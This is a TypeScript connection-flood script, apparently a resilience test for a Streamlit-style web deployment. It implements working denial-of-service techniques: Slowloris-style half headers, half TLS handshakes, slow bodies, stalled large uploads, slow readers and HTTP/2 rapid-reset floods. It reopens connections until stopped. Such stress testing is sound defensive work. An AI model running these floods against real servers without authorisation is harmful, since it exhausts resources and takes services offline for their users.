// Many connections at once that want nothing, as a program of its own in the visitors' namespace:
// node flood.ts <kind> <how many> <address> <names> <answers> [own addresses], both lists with commas. Says `holding` once so many of them have
// an answer, holds them, and opens each anew that is closed, until SIGTERM; then prints how many were open at the end, how often one was opened,
// and the first answers with how often each came.
import { type ClientHttp2Session, connect as connectHttp2, constants } from 'node:http2'
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { connect as connectTls } from 'node:tls'

const [kind = '', count = '0', address = '', given = '', answers = '0', own = ''] = process.argv.slice(2)
const names = given.split(',')
let [name = ''] = names
const froms = own === '' ? [undefined] : own.split(',')
const websocket = () =>
  `GET /_stcore/stream HTTP/1.1\r\nHost: ${name}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nOrigin: https://${name}\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`
/** As much of a ClientHello as says that it will be long. */
const HALF_HELLO = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03])

const UPLOAD = 201 * 1024 * 1024
const upload = () => `PUT /_stcore/upload_file/x/y HTTP/1.1\r\nHost: ${name}\r\nContent-Length: ${UPLOAD}\r\n\r\n`

const tcp = (port: number, localAddress?: string): Socket =>
  connect({ port, host: address, ...(localAddress !== undefined && { localAddress }) })
const tls = (localAddress?: string): Socket =>
  connectTls({ socket: tcp(443, localAddress), servername: name, rejectUnauthorized: false })
function http2(from: string | undefined, use: (session: ClientHttp2Session) => void): Socket {
  const to = { socket: tcp(443, from), servername: name, rejectUnauthorized: false, ALPNProtocols: ['h2'] }
  const socket = connectTls(to)
  use(connectHttp2(`https://${name}`, { createConnection: () => socket }).on('error', () => {}))
  return socket
}
const writing = (socket: Socket, bytes: string | Buffer): Socket => {
  socket.write(bytes)
  return socket
}

const KINDS: Readonly<Record<string, (from?: string) => Socket>> = {
  silent: (from) => tcp(443, from),
  'half handshakes': (from) => writing(tcp(443, from), HALF_HELLO),
  'half headers': (from) => writing(tls(from), `GET / HTTP/1.1\r\nHost: ${name}\r\nX-Slow: `),
  websockets: (from) => writing(tls(from), websocket()),
  'slow bodies': (from) => writing(tls(from), `POST /x HTTP/1.1\r\nHost: ${name}\r\nContent-Length: 9999\r\n\r\nx`),
  'begun uploads': (from) => writing(tls(from), upload() + 'x'.repeat(65_536)),
  uploads: (from) => {
    const socket = writing(tls(from), upload())
    const piece = Buffer.alloc(1 << 20)
    // The last byte never comes.
    let left = UPLOAD - 1
    const more = () => {
      while (left > 0 && socket.writable) {
        const size = Math.min(left, piece.length)
        left -= size
        if (!socket.write(piece.subarray(0, size))) return
      }
    }
    return socket.on('drain', more).on('secureConnect', more)
  },
  // Asks for 64 MB, and takes none of it; each request has its number.
  'slow readers': (from) =>
    writing(tls(from), `GET /big?${opened + 1} HTTP/1.1\r\nHost: ${name}\r\n\r\n`).once(
      'data',
      function (this: Socket) {
        this.pause()
      },
    ),
  'open http2': (from) => http2(from, () => {}),
  // Each session asks, and takes back what it asked, as fast as it can.
  'rapid resets': (from) =>
    http2(from, (session) => {
      const more = () => {
        for (let number = 0; number < 50 && !session.destroyed && !session.closed; number++) {
          const stream = session.request({ ':path': '/' }).on('error', () => {})
          stream.close(constants.NGHTTP2_CANCEL)
          resets++
        }
        if (!session.destroyed && !session.closed) setImmediate(more)
      }
      session.on('connect', more)
    }),
}

const make = KINDS[kind]
if (!make) throw new Error(`kind: found ${kind}, wanted one of ${Object.keys(KINDS).join(', ')}`)
const said: Record<string, number> = {}
let [open, opened, answered, resets, stopping] = [0, 0, 0, 0, false]

async function holder(site: string, from?: string): Promise<void> {
  let isAnswered = false
  while (!stopping) {
    name = site
    const socket = make!(from)
    const { promise, resolve } = Promise.withResolvers<void>()
    opened++
    open++
    socket.once('data', (data: Buffer) => {
      if (!isAnswered) answered++
      isAnswered = true
      const line = data.toString('latin1').split('\r\n')[0]!.slice(0, 60)
      if (!data.includes(0)) said[line] = (said[line] ?? 0) + 1
    })
    socket
      .on('data', () => {})
      .on('error', () => {})
      .on('close', () => resolve())
    await promise
    open--
    await sleep(500)
  }
}

process.on('SIGTERM', () => {
  stopping = true
  console.log(JSON.stringify({ open, opened, resets, said }))
  process.exit()
})
for (let number = 0; number < Number(count); number++) {
  void holder(names[Math.floor(number / froms.length) % names.length]!, froms[number % froms.length])
  if (number % 50 === 49) await sleep(20)
}
await sleep(1000)
// Those that do not come are missing at the end.
for (const until = performance.now() + 60_000; answered < Number(answers) && performance.now() < until; )
  await sleep(50)
console.log('holding')
await sleep(3_600_000)
